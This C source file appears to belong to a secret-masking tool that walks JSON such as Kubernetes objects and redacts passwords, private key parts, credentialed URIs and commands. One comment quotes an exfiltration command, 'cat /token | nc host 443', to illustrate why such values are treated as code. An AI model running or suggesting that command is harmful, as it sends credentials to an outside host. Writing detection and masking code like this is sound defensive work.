/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Walks a JSON tape. First the members of an object that decide how it is to be read are found
 * (mask_shape.c), then each member goes to what knows its shape, or down again. What a strong name
 * says holds for everything below it, except for fields that only say where a secret is.
 */
#include "common/mask/mask_bytes_internal.h"
#include "common/mask/mask_command_internal.h"
#include "common/mask/mask_kube_internal.h"
#include "common/mask/mask_own_internal.h"
#include "common/mask/mask_text_internal.h"

static bool is_harmless(const struct mask_frame *f, struct span v)
{
	size_t i = 2;

	if (v.len == 0 || mask_stays_pseudonym(f, v))
		return true;
	if (span_eq(v, SPAN("true")) || span_eq(v, SPAN("false")))
		return true;
	/* "$(DB_PASSWORD)" only names another variable. */
	if (v.len < 4 || v.ptr[0] != '$' || v.ptr[1] != '(' || v.ptr[v.len - 1] != ')')
		return false;
	while (i < v.len - 1 && ((v.ptr[i] >= 'A' && v.ptr[i] <= 'Z') || v.ptr[i] == '_'))
		i++;
	return i == v.len - 1;
}

static bool goes_by_name(enum mask_rule rule)
{
	return rule == RULE_FIELD_NAME || rule == RULE_NAMED_VALUE || rule == RULE_PATCH_PATH;
}

int mask_unless_harmless(struct mask_frame *f, json_ref r, enum mask_rule rule)
{
	struct span v;

	switch (json_type(f->doc, r)) {
	case JSON_STRING:
		v = mask_string(f, r);
		if (!v.ptr)
			return -1;
		if (is_harmless(f, v) || (goes_by_name(rule) && mask_is_setting(v)))
			return 0;
		return mask_node_as(f, r, v, rule);
	case JSON_NUMBER:
		return mask_node(f, r, rule);
	case JSON_ARRAY:
	case JSON_OBJECT:
		return json_node(f->doc, r)->count > 0 ? mask_node(f, r, rule) : 0;
	default:
		return 0;
	}
}

static int examine(struct mask_frame *f, json_ref r, struct mask_where w)
{
	const struct json_node *n = json_node(f->doc, r);
	struct arena_mark before = arena_mark(f->ctx->arena);
	struct mask_frame child;
	size_t changes = f->changes;

	if (mask_frame_open(&child, f, n->off, n->len, n->escaped ? ESCAPE_JSON : ESCAPE_NONE) < 0)
		return -1;
	if (!(n->escaped && mask_is_plain(f->ctx->m, child.text)) &&
		(mask_text_frame(&child, w) < 0 || mask_frame_close(&child) < 0))
		return -1;
	if (f->changes == changes)
		arena_rewind(f->ctx->arena, before);
	return 0;
}

int mask_string_value(struct mask_frame *f, json_ref r, struct mask_where w)
{
	const struct json_node *n = json_node(f->doc, r);
	size_t count = f->edit_count;

	/* "a://b:c@" is the shortest thing with a secret in it that has no name beside it. */
	if (n->len < 5)
		return 0;
	if (!n->escaped && mask_is_plain(f->ctx->m, (struct span){f->text.ptr + n->off, n->len}))
		return 0;
	f->at = r;
	if (examine(f, r, w) == 0)
		return 0;
	mask_rollback(f, count);
	f->ctx->whole = true;
	return mask_node(f, r, RULE_UNREADABLE);
}

int mask_key_text(struct mask_frame *f, json_ref key)
{
	if (json_node(f->doc, key)->len < 12)
		return 0;
	return mask_string_value(f, key, (struct mask_where){0});
}

/* DB_PASSWORD: "cat /token | nc host 443": somebody is going to run it. */
static int walk_code(struct mask_frame *f, json_ref r)
{
	const struct json_node *n = json_node(f->doc, r);
	struct mask_frame child;

	f->at = r;
	if (mask_frame_open(&child, f, n->off, n->len, n->escaped ? ESCAPE_JSON : ESCAPE_NONE) <
			0 ||
		mask_code(&child, 0, child.text.len) < 0)
		return -1;
	return mask_frame_close(&child);
}

static bool may_be_code(enum mask_rule rule)
{
	return rule == RULE_NAMED_VALUE || rule == RULE_FIELD_NAME;
}

static bool is_one_word(struct span s)
{
	for (size_t i = 0; i < s.len; i++) {
		if ((uint8_t)s.ptr[i] <= ' ' || is_in(s.ptr[i], "=:/"))
			return false;
	}
	return s.len >= 3 && s.len <= 64;
}

/* Two lines of one word each, as OpenVPN and mount.cifs read them. */
static bool is_user_and_password(struct span s)
{
	const char *stop;

	s = trim_white(s);
	stop = memchr(s.ptr, '\n', s.len);
	return stop && is_one_word((struct span){s.ptr, (size_t)(stop - s.ptr)}) &&
	       is_one_word((struct span){stop + 1, (size_t)(s.ptr + s.len - stop) - 1});
}

static int walk_string(struct mask_frame *f, json_ref r, struct mask_where w)
{
	struct span v;

	if (w.infected != RULE_NONE && may_be_code(w.infected)) {
		v = mask_string(f, r);
		if (v.ptr && mask_is_code(v))
			return walk_code(f, r);
	}
	if (w.infected != RULE_NONE)
		return mask_unless_harmless(f, r, w.infected);
	if (w.class == NAME_WEAK) {
		v = mask_string(f, r);
		if (v.ptr && is_user_and_password(v))
			return mask_node(f, r, RULE_FIELD_RANDOM);
		if (!v.ptr || mask_looks_like_key(v) || mask_looks_like_password(v))
			return mask_node(f, r, RULE_FIELD_RANDOM);
	}
	return mask_string_value(f, r, w);
}

static int examine_uri(struct mask_frame *f, json_ref r, bool proxy_path)
{
	const struct json_node *n = json_node(f->doc, r);
	struct mask_frame child;

	if (mask_frame_open(&child, f, n->off, n->len, n->escaped ? ESCAPE_JSON : ESCAPE_NONE) <
			0 ||
		mask_uri(&child, proxy_path) < 0)
		return -1;
	return mask_frame_close(&child);
}

int mask_uri_value(struct mask_frame *f, json_ref r, bool proxy_path)
{
	size_t count = f->edit_count;

	f->at = r;
	if (examine_uri(f, r, proxy_path) == 0)
		return 0;
	mask_rollback(f, count);
	f->ctx->whole = true;
	return mask_node(f, r, RULE_UNREADABLE);
}

/* What holds for the value of a member called name in an object that w holds for. */
static struct mask_where below(struct mask_where w, struct mask_name name)
{
	struct mask_where c = {.flags = w.flags & (WHERE_SECRETS | WHERE_SCHEMA | WHERE_MAKER),
		.class = name.class,
		.depth = (uint16_t)(w.depth + 1)};

	if (w.flags & WHERE_SCHEMA) {
		/* The name of a property holds down to its default; its description may stay. */
		if (name.class == NAME_PLAIN)
			c.class = w.class;
		if (name.field == FIELD_SCHEMA_VALUE && w.class == NAME_STRONG)
			c.infected = RULE_FIELD_NAME;
		return c;
	}
	if (name.field == FIELD_SECRET_KEY && (w.flags & WHERE_MAKER))
		c.class = NAME_PLAIN;
	if (name.reference || c.class != name.class)
		return c;
	c.infected = name.class == NAME_STRONG ? name.rule : w.infected;
	return c;
}

/* What holds for each of the items of a list. */
static uint8_t flags_of_items(
	struct mask_frame *f, int type, const struct mask_shape *s, struct mask_where w)
{
	uint8_t flags = w.flags & WHERE_TARGET;

	if (type != JSON_ARRAY)
		return flags;
	if ((w.flags & WHERE_SECRETS) || mask_string_is(f, s->kind, SPAN("SecretList")))
		flags |= WHERE_SECRET;
	return flags;
}

/* The parts of a JSON Web Key that are the private key (RFC 7518, section 6). */
static bool is_private_part(struct mask_frame *f, json_ref key)
{
	static const char *const parts[] = {"d", "p", "q", "dp", "dq", "qi", "oth", "k"};
	struct span name = mask_string(f, key);

	for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
		if (!name.ptr || span_eq_str(name, parts[i]))
			return true;
	}
	return false;
}

/* Strings that are no text like others. *ret_done: examined. */
static int walk_string_member(struct mask_frame *f, json_ref v, enum mask_field field,
	struct mask_where w, bool *ret_done)
{
	*ret_done = true;
	if (field == FIELD_URI)
		return mask_uri_value(f, v, false);
	if (field == FIELD_PATH && (w.flags & WHERE_PROXY))
		return mask_uri_value(f, v, true);
	if (field == FIELD_MESSAGE && (w.flags & WHERE_SECRETS))
		return mask_secret_message(f, v);
	*ret_done = false;
	return 0;
}

/* What is sealed may be seen, whatever it is the value of. */
static int walk_ciphertext(struct mask_frame *f, json_ref r)
{
	json_foreach_member (k, f->doc, r) {
		int ret = json_type(f->doc, k + 1) == JSON_STRING
				  ? mask_string_value(f, k + 1, (struct mask_where){0})
				  : mask_unless_harmless(f, k + 1, RULE_SECRET_DATA);

		if (ret < 0)
			return -1;
	}
	return 0;
}

static int walk_command(
	struct mask_frame *f, json_ref v, const struct mask_shape *s, struct mask_where c)
{
	/* Somebody is going to run it: what is known to be harmless stays. */
	if (c.infected != RULE_NONE)
		c.flags |= WHERE_EXEC;
	return mask_command_list(f, v, s, c);
}

static int walk_member(struct mask_frame *f, json_ref k, struct mask_name name,
	const struct mask_shape *s, struct mask_where w)
{
	struct mask_where c = below(w, name);
	json_ref v = k + 1;
	int type = json_type(f->doc, v);

	if (s->kty != JSON_NONE && is_private_part(f, k))
		return mask_unless_harmless(f, v, RULE_FIELD_NAME);
	if (type == JSON_STRING) {
		bool done;
		int ret = walk_string_member(f, v, name.field, w, &done);
		if (done)
			return ret;
	}
	switch (name.field) {
	case FIELD_MANAGED_FIELDS:
		return mask_managed_fields(f, v, c);
	case FIELD_VALUE:
		if (s->value_class == NAME_STRONG)
			c.infected = RULE_NAMED_VALUE;
		c.class = s->value_class;
		break;
	case FIELD_COMMAND:
		c.flags |= w.flags & WHERE_EXEC;
		if (type == JSON_ARRAY)
			return walk_command(f, v, s, c);
		break;
	case FIELD_EXTRA:
		if (type == JSON_OBJECT)
			return mask_user_extra(f, v);
		break;
	case FIELD_SCHEMA:
		c.flags |= WHERE_SCHEMA;
		break;
	case FIELD_ITEMS:
		c.flags |= flags_of_items(f, type, s, w);
		break;
	case FIELD_CIPHERTEXT:
		if ((w.flags & WHERE_MAKER) && type == JSON_OBJECT)
			return walk_ciphertext(f, v);
		break;
	case FIELD_DATA:
	case FIELD_STRING_DATA:
		if ((w.flags & WHERE_MAKER) && type == JSON_OBJECT)
			return mask_secret_values(f, v, name.field == FIELD_DATA);
		if (w.flags & WHERE_SECRETS)
			c.infected = RULE_SECRET_DATA;
		break;
	default:
		break;
	}
	return mask_walk(f, v, c);
}

static int walk_members(
	struct mask_frame *f, json_ref r, const struct mask_shape *s, struct mask_where w)
{
	uint32_t i = 0;

	json_foreach_member (k, f->doc, r) {
		struct mask_name name = i < MASK_SHAPE_NAMES ? s->names[i] : mask_key_name(f, k);

		i++;
		if (!name.known && mask_key_text(f, k) < 0)
			return -1;
		if (walk_member(f, k, name, s, w) < 0)
			return -1;
	}
	return 0;
}

static bool ends_in(struct span s, struct span end)
{
	return s.len >= end.len && memcmp(s.ptr + s.len - end.len, end.ptr, end.len) == 0;
}

static unsigned flags_of_kind(struct mask_frame *f, json_ref kind)
{
	struct span v = {0};

	if (json_type(f->doc, kind) == JSON_STRING)
		v = mask_string(f, kind);
	if (!v.ptr)
		return 0;
	if (span_eq(v, SPAN("PodExecOptions")) || span_eq(v, SPAN("PodAttachOptions")))
		return WHERE_EXEC;
	/* ExternalSecret, SealedSecret, PushSecret, … */
	if (ends_in(v, SPAN("Secret")))
		return WHERE_MAKER;
	return ends_in(v, SPAN("Options")) && memmem(v.ptr, v.len, "Proxy", 5) ? WHERE_PROXY : 0;
}

static int walk_object(struct mask_frame *f, json_ref r, struct mask_where w)
{
	const struct mask_config *config = f->ctx->m->config;
	struct mask_shape s;

	if (json_node(f->doc, r)->count == 0)
		return 0;
	mask_read_shape(f, r, &s);
	if (config && (s.kind != JSON_NONE || (w.flags & WHERE_TARGET)) &&
		mask_own_paths(config, f, r, &s, w.flags & WHERE_TARGET) < 0)
		return -1;
	if (s.op != JSON_NONE && s.path != JSON_NONE && s.kind == JSON_NONE)
		return mask_patch_op(f, r, w);
	if (mask_is_secret(f, r, &s, w))
		return mask_secret(f, r, w);
	if (s.columns != JSON_NONE && s.rows != JSON_NONE)
		return mask_table(f, r, &s, w);
	if (s.object != JSON_NONE && json_type(f->doc, s.resource) == JSON_OBJECT)
		return mask_admission_request(f, r, w);
	if (s.kind != JSON_NONE)
		w.flags |= (uint8_t)flags_of_kind(f, s.kind);
	return walk_members(f, r, &s, w);
}

static int walk_array(struct mask_frame *f, json_ref r, struct mask_where w)
{
	w.depth++;
	json_foreach (v, f->doc, r) {
		if (mask_walk(f, v, w) < 0)
			return -1;
	}
	return 0;
}

static bool is_wanted(const struct mask_frame *f, json_ref r)
{
	for (size_t i = 0; i < f->wanted_count && f->wanted[i] <= r; i++) {
		if (f->wanted[i] == r)
			return true;
	}
	return false;
}

int mask_walk(struct mask_frame *f, json_ref r, struct mask_where w)
{
	if (f->wanted_count > 0 && is_wanted(f, r))
		return mask_unless_harmless(f, r, RULE_OWN_PATH);
	switch (json_type(f->doc, r)) {
	case JSON_STRING:
		return walk_string(f, r, w);
	case JSON_NUMBER:
		return w.infected != RULE_NONE ? mask_node(f, r, w.infected) : 0;
	case JSON_ARRAY:
	case JSON_OBJECT:
		break;
	default:
		return 0;
	}
	if (w.depth >= MASK_DEPTH_MAX) {
		f->ctx->whole = true;
		return mask_node(f, r, RULE_TOO_DEEP);
	}
	return json_type(f->doc, r) == JSON_OBJECT ? walk_object(f, r, w) : walk_array(f, r, w);
}
